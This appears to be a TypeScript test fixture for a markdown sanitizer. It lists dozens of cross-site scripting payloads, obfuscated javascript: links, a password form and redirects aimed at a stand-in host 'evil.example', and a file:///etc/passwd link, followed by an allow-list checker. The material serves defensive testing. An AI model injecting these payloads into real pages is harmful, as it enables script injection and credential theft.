/** Markdown by which somebody might try to run a script, load something, or look like the app. */
export const hostileMarkdown = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<div style="position:fixed;inset:0">x</div>',
  '<details open ontoggle=alert(1)>',
  '<!-- --><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '</div></main><h1>Not yours</h1>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.org/1)',
  '[x](https://a.example"onmouseover="alert(1))',
  '[x](https://a.example "t" onclick="alert(1)")',
  "[x](https://a.example '\"><script>alert(1)</script>')",
  '[x]: javascript:alert(1)\n\n[x]',
  '[x]: https://a.example "\\"><script>"\n\n[x]',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '![x"onerror="alert(1)](x)',
  '![][x]\n\n[x]: https://evil.example/pixel.png',
  '```"><script>alert(1)</script>\nx\n```',
  '``` x onclick=alert(1)\nx\n```',
  '`<script>alert(1)</script>`',
  '# <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[<script>alert(1)</script>](https://a.example)',
  '[![x](https://evil.example/pixel.png)](https://a.example)',
  '\u0000<script>',
  '\ufeff<script>alert(1)</script>',
  '99999999999999999999. x',
]

const allowed: Record<string, readonly string[]> = {
  A: ['href', 'title'],
  CODE: ['class'],
  OL: ['start'],
}
for (const name of ['H2', 'H3', 'H4', 'H5', 'H6', 'P', 'UL', 'LI', 'BLOCKQUOTE', 'PRE']) {
  allowed[name] = []
}
for (const name of ['EM', 'STRONG', 'BR', 'HR']) allowed[name] = []

/** Schemes that run or read nothing; without one, an address is of this site or of the web. */
const harmless = /^(?:https?|ircs?|mailto|xmpp):|^(?!\s*[a-z][a-z\d+.-]*\s*:)/i

/** The elements and attributes of this HTML that no rendered text may have. */
export function strangersIn(html: string): string[] {
  const { body } = new DOMParser().parseFromString(html, 'text/html')
  return [...body.querySelectorAll('*')].flatMap(({ tagName, attributes }) => {
    const known = allowed[tagName]
    if (known === undefined) return [tagName]
    return [...attributes].flatMap(({ name, value }) => {
      const isKnown =
        known.includes(name) &&
        (name !== 'href' || harmless.test(value)) &&
        (name !== 'class' || value.startsWith('language-')) &&
        (name !== 'start' || /^\d+$/.test(value))
      return isKnown ? [] : [`${tagName} ${name}=${value}`]
    })
  })
}
